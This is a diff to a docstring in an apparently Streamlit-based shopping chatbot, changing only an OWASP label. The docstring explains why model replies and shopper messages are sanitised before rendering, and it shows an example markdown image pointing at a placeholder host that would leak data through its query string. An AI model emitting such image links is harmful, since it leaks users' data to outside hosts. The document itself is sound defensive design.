@@ -2,7 +2,7 @@
 
 Replies come from a language model and messages from shoppers, so neither is trusted markup. Streamlit
 renders markdown: an image ``![x](https://host/leak.png?q=...)`` would make the shopper's browser fetch
-that URL the moment the message is drawn (a zero-click data leak, OWASP LLM02 insecure output handling),
+that URL the moment the message is drawn (a zero-click data leak, OWASP LLM05 improper output handling),
 a link can phish, ``$...$`` turns into LaTeX and ``:red[...]`` into styling. Grounding already cuts URLs
 from replies; this is the second fence, at the renderer, for every text it draws (replies, history,
 the shopper's own words).
